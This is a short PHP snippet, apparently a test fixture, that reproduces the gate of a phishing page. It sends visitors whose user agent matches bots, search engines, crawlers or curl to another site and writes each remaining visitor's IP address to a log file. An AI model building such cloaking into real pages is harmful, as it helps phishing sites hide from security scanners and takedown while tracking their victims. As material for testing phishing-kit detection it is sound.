<?php
// a phishing page's gate: crawlers and scanners are sent to another site (written for the
// tests, never run)
$agent = $_SERVER['HTTP_USER_AGENT'];
if (preg_match('/bot|yahoo|google|spider|crawler|curl|^$/i', $agent)) {
    header("Location: $out_url");
    die();
}
$log = fopen("visits.txt", "a+");
fwrite($log, $_SERVER['REMOTE_ADDR'] . "\r\n");
fclose($log);
